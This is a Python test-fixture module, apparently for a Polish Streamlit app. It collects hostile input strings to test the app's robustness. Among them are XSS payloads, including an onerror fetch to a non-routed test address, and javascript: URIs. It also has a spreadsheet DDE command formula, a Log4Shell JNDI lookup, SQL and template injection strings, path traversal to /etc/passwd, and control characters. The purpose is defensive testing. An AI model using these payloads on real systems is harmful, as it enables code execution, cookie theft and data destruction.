"""Hostile strings: what a careless paste or a malicious partner may type into any text field.

Each class of attack the app must survive has a few members: markdown that
would fetch or link (Streamlit renders labels, titles and messages as
markdown), HTML and script (popups, the HTML report), URLs that would become
links, right-to-left and invisible characters, control characters (Word's
Shift+Enter, NUL), mathtext (matplotlib's ``$…$``), spreadsheet formulas,
template and SQL syntax, and a text longer than any field accepts.
"""

from __future__ import annotations

__all__ = [
    "CONTROL",
    "HOSTILE",
    "LONG",
    "MARKUP",
    "REMOTE_HOST",
    "fitted",
]

#: The address every fetching string points at (TEST-NET-3, never routed).
REMOTE_HOST = "203.0.113.1"

#: Markdown and HTML that would load something or become a link when rendered.
MARKUP: tuple[str, ...] = (
    f"![x](http://{REMOTE_HOST}/a.png)",
    f"Dom ![](http://{REMOTE_HOST}/b.png) Kultury",
    f"[kliknij](http://{REMOTE_HOST}/c)",
    "[x](javascript:alert(1))",
    f"<img src=http://{REMOTE_HOST}/d.png>",
    f'<img src="x" onerror="fetch(\'http://{REMOTE_HOST}/e\')">',
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    f'<a href="http://{REMOTE_HOST}/f">link</a>',
    f"<iframe src=http://{REMOTE_HOST}/g></iframe>",
    f"http://{REMOTE_HOST}/h",
    f"www.{REMOTE_HOST}.example/i",
    f"https://{REMOTE_HOST}:8443/j?k=1&l=2",
    f"Więcej: {REMOTE_HOST}/k lub mailto:zlo@example.com",
    f"[![x](http://{REMOTE_HOST}/l.png)](http://{REMOTE_HOST}/m)",
    f"[ref]: http://{REMOTE_HOST}/n\n[ref]",
    "# Nagłówek\n---\n* lista",
    "**pogrubione** _kursywa_ ~~skreślone~~ `kod`",
    ":red[czerwony] :material/warning: :smile:",
    "\\*nie\\* \\\\ \\[",
    "<!-- komentarz --> &lt;b&gt; &amp; &#x3C;",
    '"><img src=x>',
    "';alert(String.fromCharCode(88,83,83))//",
    "javascript:alert(document.cookie)",
)

#: Characters that break files or text layout.
CONTROL: tuple[str, ...] = (
    "Linia 1\x0bLinia 2 (Shift+Enter w Wordzie)",
    "Strona 1\x0cStrona 2",
    "przed\x00po (NUL)",
    "dzwonek\x07 i \x1b[31mANSI\x1b[0m",
    "Windows\r\nkoniec linii\rstary Mac",
    "\u202eodwrócony tekst\u202c (RLO)",
    "שלום עולם مرحبا (RTL)",
    "zero\u200bszerokości\u200d\ufeff",
    "samotny surogat \ud800",
    "\u2028separator linii\u2029akapitu",
    "Zażółć gęślą jaźń 🗺️👩‍👩‍👧",
)

#: Syntax of other languages the text passes near.
FOREIGN: tuple[str, ...] = (
    "Fundusz $^$",
    "$x$",
    "Cena $5 i $10",
    r"$\frac{1}{0}$ \$",
    '=HYPERLINK("http://203.0.113.1/o","klik")',
    "=cmd|' /C calc'!A0",
    "+48 600 ; @SUM(A1)",
    "-2+3",
    "{{ 7*7 }} {% for x in y %}",
    "${jndi:ldap://203.0.113.1/p}",
    "Robert'); DROP TABLE resources;--",
    '" OR 1=1 --',
    "%s %d %n {0} {name}",
    "C:\\Windows\\system32 ../../etc/passwd",
)

#: Longer than any text field accepts (validation must refuse it in Polish).
LONG = "Długi tekst " * 1000

HOSTILE: tuple[str, ...] = (*MARKUP, *CONTROL, *FOREIGN, LONG)


def fitted(text: str, limit: int) -> str:
    """``text`` cut to a field's ``limit`` (the long string is refused whole)."""
    return text[:limit]
